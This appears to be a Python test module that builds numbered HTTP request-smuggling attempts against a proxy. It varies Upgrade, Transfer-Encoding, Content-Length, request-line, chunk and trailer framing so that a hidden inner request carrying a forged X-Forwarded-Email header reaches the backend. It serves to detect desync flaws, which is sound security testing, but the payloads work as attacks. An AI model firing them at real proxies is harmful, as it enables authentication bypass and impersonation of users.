"""Requests that two servers might frame differently, each with another request inside that only one of them sees.

An attempt is the bytes that an attacker sends through a proxy. `inner` is the request inside: it bears
a header that the proxy clears of all that it forwards, so if the app ever sees that header, the proxy
has not seen the request. NUMBER stands for the attempt's own, of as many digits, so that what is heard says which it was.
"""

from collections.abc import Iterator
from typing import NamedTuple

FORGED = b"x-forwarded-email"


class Attempt(NamedTuple):
    """What an attacker sends, and what it tries in words. `/late/` paths are answered once all of it was sent, `/early/` ones unread."""

    number: int
    name: str
    data: bytes


def attempts(host: str) -> list[Attempt]:
    """All of them, for a proxy whose name is `host`."""
    made = [
        *_upgrades(host),
        *_codings(host),
        *_lengths(host),
        *_spellings(host),
        *_lines(host),
        *_chunks(host),
        *_trailers(host),
    ]
    return [
        Attempt(number, name, data.replace(b"NUMBER", b"%06d" % number))
        for number, (name, data) in enumerate(made)
    ]


def _inner(host: str) -> bytes:
    return (
        b"GET /inner/NUMBER HTTP/1.1\r\nHost: %b\r\nX-Forwarded-Email: forged-NUMBER@example.com\r\n\r\n"
        % host.encode()
    )


def _request(
    host: str, fields: bytes, body: bytes, line: bytes = b"POST /outer/NUMBER HTTP/1.1"
) -> bytes:
    return line + b"\r\nHost: " + host.encode() + b"\r\n" + fields + b"\r\n" + body


def _chunked(data: bytes) -> bytes:
    return b"%x\r\n%b\r\n0\r\n\r\n" % (len(data), data)


def _upgrades(host: str) -> Iterator[tuple[str, bytes]]:
    inner = _inner(host)
    asks = [
        *(
            b"Connection: Upgrade\r\nUpgrade: %b\r\n" % name
            for name in (b"websocket", b"foo", b"h2c", b"TLS/1.0", b"foo, websocket")
        ),
        b"Connection: keep-alive, upgrade\r\nUpgrade: foo\r\n",
        b"connection: upgrade\r\nupgrade: FOO\r\n",
        b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n",
        b"Upgrade: foo\r\nProxy-Connection: upgrade\r\n",
        b"Connection: close\r\nConnection: Upgrade\r\nUpgrade: foo\r\n",
    ]
    lines = (
        b"POST /outer/NUMBER HTTP/1.1",
        b"POST /late/NUMBER HTTP/1.1",
        b"POST /segment/webhook/web HTTP/1.1",
        b"GET /early/NUMBER HTTP/1.1",
    )
    for ask in asks:
        for line in lines:
            for before in (
                b"",
                b"\r\n" * 4,
                b"\r\n" * 60_000,
            ):  # what is left of a read that held the head may be lost with it
                body = before + inner * 2
                yield (
                    "upgrade, length",
                    _request(host, ask + b"Content-Length: %d\r\n" % len(body), body, line),
                )
            yield (
                "upgrade, chunked",
                _request(host, ask + b"Transfer-Encoding: chunked\r\n", _chunked(inner * 2), line),
            )


def _codings(host: str) -> Iterator[tuple[str, bytes]]:
    """Content-Length beside a Transfer-Encoding that one of two servers may not understand, each way round."""
    inner = _inner(host)
    spellings = [
        *(
            b"Transfer-Encoding: chunked",
            b"Transfer-Encoding : chunked",
            b"Transfer-Encoding:chunked",
            b"Transfer-Encoding:\tchunked",
        ),
        *(
            b"Transfer-Encoding: chunked ",
            b"Transfer-Encoding: chunked\t",
            b"Transfer-Encoding:\x0bchunked",
            b"Transfer-Encoding: \x0bchunked",
        ),
        *(
            b"Transfer-Encoding: chunked\x0b",
            b"Transfer-Encoding\x0b: chunked",
            b"Transfer-Encoding: chunked\0",
            b"Transfer-Encoding\0: chunked",
        ),
        *(
            b" Transfer-Encoding: chunked",
            b"X: y\r\n Transfer-Encoding: chunked",
            b"X: y\rTransfer-Encoding: chunked",
            b"X: y\nTransfer-Encoding: chunked",
        ),
        *(
            b"Transfer-Encoding:\r\n chunked",
            b"Transfer-Encoding: x\r\n chunked",
            b"Transfer-Encoding:\n chunked",
        ),
        *(
            b"Transfer-Encoding: CHUNKED",
            b"Transfer-Encoding: Chunked",
            b"transfer-encoding: chunked",
            b"TRANSFER-ENCODING: chunked",
        ),
        *(
            b"Transfer_Encoding: chunked",
            b"Transfer-Encoding: 'chunked'",
            b'Transfer-Encoding: "chunked"',
            b"Transfer-Encoding: xchunked",
        ),
        *(
            b"Transfer-Encoding: identity",
            b"Transfer-Encoding: chunked, identity",
            b"Transfer-Encoding: identity, chunked",
        ),
        *(
            b"Transfer-Encoding: gzip, chunked",
            b"Transfer-Encoding: chunked, chunked",
            b"Transfer-Encoding: ,chunked",
            b"Transfer-Encoding: chunked,",
        ),
        *(
            b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
            b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
        ),
        *(
            b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
            b"Transfer-Encoding: chunked;a=b",
            b"TE: chunked",
            b"Transfer-Encoding:",
        ),
        *(
            b"Transfer-Encoding: \xef\xbb\xbfchunked",
            b"Transfer-Encoding: chun\xc2\xadked",
            b"Transfer\xe2\x80\x90Encoding: chunked",
        ),
        *(
            b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
            b"Connection: Content-Length\r\nTransfer-Encoding: chunked",
        ),
    ]
    for spelling in spellings:
        body = b"0\r\n\r\n" + inner
        yield (
            "length.coding",
            _request(host, spelling + b"\r\nContent-Length: %d\r\n" % len(body), body),
        )
        yield (
            "coding.length",
            _request(host, b"Content-Length: 4\r\n" + spelling + b"\r\n", _chunked(inner)),
        )


def _lengths(host: str) -> Iterator[tuple[str, bytes]]:
    inner = _inner(host)
    size = len(inner)
    for value in (
        *(
            b"+%d",
            b"-%d",
            b"0x%x",
            b"%d.0",
            b"%de0",
            b"0%d",
            b"00000000000000000000%d",
            b" %d",
            b"\t%d",
            b"%d ",
            b"%d\t",
            b"%d\x0b",
            b"%d\0",
        ),
        *(
            b"%d, 0",
            b"0, %d",
            b"%d,%d",
            b"%d;",
            b'"%d"',
            b"1_%d",
            b"%d\xc2\xa0",
            b"\xd9\xa3%d",
            b"99999999999999999999%d",
            b"%d\r\n 0",
            b"\r\n %d",
        ),
    ):
        told = value % ((size,) * value.count(b"%"))
        yield ("length", _request(host, b"Content-Length: " + told + b"\r\n", inner))
    for one, other in ((0, size), (size, 0), (size, size), (1, size), (size, 1)):
        yield (
            "two lengths",
            _request(host, b"Content-Length: %d\r\nContent-Length: %d\r\n" % (one, other), inner),
        )
        yield (
            "two lengths, apart",
            _request(
                host, b"Content-Length: %d\r\nX: y\r\ncontent-length: %d\r\n" % (one, other), inner
            ),
        )


def _spellings(host: str) -> Iterator[tuple[str, bytes]]:
    inner = _inner(host)
    size = len(inner)
    for field in (
        *(
            b"Content-Length : %d",
            b"Content_Length: %d",
            b" Content-Length: %d",
            b"\tContent-Length: %d",
            b"Content-Length\0: %d",
        ),
        *(
            b"X: y\r\n Content-Length: %d",
            b"X: y\rContent-Length: %d",
            b"X: y\nContent-Length: %d",
            b"X\r\nContent-Length: %d",
            b"Content Length: %d",
        ),
        *(
            b"Content-Length%d",
            b": y\r\nContent-Length: %d",
            b"X: y\0\r\nContent-Length: %d",
            b"X: \x7f\r\nContent-Length: %d",
        ),
        *(
            b"Connection: Content-Length\r\nContent-Length: %d",
            b"Connection: close, Content-Length\r\nContent-Length: %d",
        ),
        *(
            b"Expect: 100-continue\r\nContent-Length: %d",
            b"Expect: x\r\nContent-Length: %d",
            b"Expect: 100-Continue, x\r\nContent-Length: %d",
        ),
        *(
            b"Host: other\r\nContent-Length: %d",
            b"Connection: Host\r\nContent-Length: %d",
            b"Content-Encoding: gzip\r\nContent-Length: %d",
        ),
        *(
            b"Connection: X-Forwarded-Email\r\nContent-Length: %d",
            b"Connection: X-Realtime-Proxy-Secret\r\nContent-Length: %d",
        ),
        *(
            b"X-HTTP-Method-Override: GET\r\nContent-Length: %d",
            b"Connection: keep-alive\r\nKeep-Alive: max=9\r\nContent-Length: %d",
        ),
    ):
        yield ("spelling", _request(host, field % size + b"\r\n", inner))
        yield (
            "spelling, on a GET",
            _request(host, field % size + b"\r\n", inner, b"GET /early/NUMBER HTTP/1.1"),
        )


def _lines(host: str) -> Iterator[tuple[str, bytes]]:
    inner = _inner(host)
    fields = b"Content-Length: %d\r\n" % len(inner)
    for line in (
        *(
            b"POST /early/NUMBER HTTP/1.0",
            b"POST /early/NUMBER HTTP/2.0",
            b"POST /early/NUMBER HTTP/0.9",
            b"POST /early/NUMBER",
        ),
        *(
            b"POST /early/NUMBER HTTP/1.1 ",
            b"POST  /early/NUMBER HTTP/1.1",
            b"POST\t/early/NUMBER HTTP/1.1",
            b"POST /early/NUMBER http/1.1",
        ),
        *(
            b"POST /early/NUMBER HTTP/1.1\r",
            b"POST /early/NUMBER\x0bHTTP/1.1",
            b"post /early/NUMBER HTTP/1.1",
            b"\r\nPOST /early/NUMBER HTTP/1.1",
        ),
        *(
            b"POST /early/NUMBER HTTP/1.10",
            b"POST /early/NUMBER HTTP/01.1",
            b"POST /early/NUMBER RTSP/1.0",
            b"SOURCE /early/NUMBER ICE/1.0",
        ),
        *(
            b"CONNECT /early/NUMBER HTTP/1.1",
            b"CONNECT localhost:443 HTTP/1.1",
            b"PRI * HTTP/2.0",
            b"OPTIONS * HTTP/1.1",
            b"HEAD /early/NUMBER HTTP/1.1",
        ),
        *(
            b"POST http://other/early/NUMBER HTTP/1.1",
            b"POST /early/NUMBER%20HTTP/1.1%0d%0aX:y HTTP/1.1",
            b"DELETE /early/NUMBER HTTP/1.1",
        ),
    ):
        yield ("line", _request(host, fields, inner, line))
        yield (
            "line, chunked",
            _request(host, b"Transfer-Encoding: chunked\r\n", _chunked(inner), line),
        )


def _chunks(host: str) -> Iterator[tuple[str, bytes]]:
    inner = _inner(host)
    size = len(inner)
    fields = b"Transfer-Encoding: chunked\r\n"
    for body in (
        *(
            b"0x%x\r\n%b\r\n0\r\n\r\n",
            b" %x\r\n%b\r\n0\r\n\r\n",
            b"%x \r\n%b\r\n0\r\n\r\n",
            b"+%x\r\n%b\r\n0\r\n\r\n",
            b"-%x\r\n%b\r\n0\r\n\r\n",
        ),
        *(
            b"%x;a=b\r\n%b\r\n0\r\n\r\n",
            b'%x;a="\r\n%b\r\n0\r\n\r\n',
            b"%x\n%b\r\n0\r\n\r\n",
            b"%x\r%b\r\n0\r\n\r\n",
            b"%x\r\n%b\n0\r\n\r\n",
        ),
        *(
            b"10000000000000000%x\r\n%b\r\n0\r\n\r\n",
            b"%x;\n\r\n%b\r\n0\r\n\r\n",
            b"%x\r\n%b0\r\n\r\n",
            b"00000000%x\r\n%b\r\n0\r\n\r\n",
        ),
        *(
            b"%x\r\n%b\r\n0\r\nX: y\r\n\r\n",
            b"%x\r\n%b\r\n00\r\n\r\n",
            b"%x\r\n%b\r\n\r\n\r\n",
            b"1_%x\r\n%b\r\n0\r\n\r\n",
        ),
    ):
        yield ("chunk", _request(host, fields, body % (size, inner)))
    for body in (
        b"0\r\n",
        b"0\r\n\r\n",
        b"0\n\n",
        b"\r\n0\r\n\r\n",
        b"0;\r\n\r\n",
        b"0 \r\n\r\n",
        b"0\r\nX: y",
        b"5\r\nab\r\n0\r\n\r\n",
    ):
        yield (
            "end of chunks",
            _request(host, fields + b"Connection: keep-alive\r\n", body + _inner(host)[4:]),
        )


def _trailers(host: str) -> Iterator[tuple[str, bytes]]:
    forged = b"X-Forwarded-Email: forged-NUMBER@example.com\r\n"
    for fields in (
        b"",
        b"Trailer: X-Forwarded-Email\r\n",
        b"Trailer: X-Forwarded-Email, Authorization\r\nTE: trailers\r\n",
    ):
        for line in (
            b"POST /outer/NUMBER HTTP/1.1",
            b"POST /early/NUMBER HTTP/1.1",
            b"GET /outer/NUMBER HTTP/1.1",
        ):
            body = b"1\r\na\r\n0\r\n" + forged + b"\r\n"
            yield (
                "trailer",
                _request(host, fields + b"Transfer-Encoding: chunked\r\n", body, line),
            )
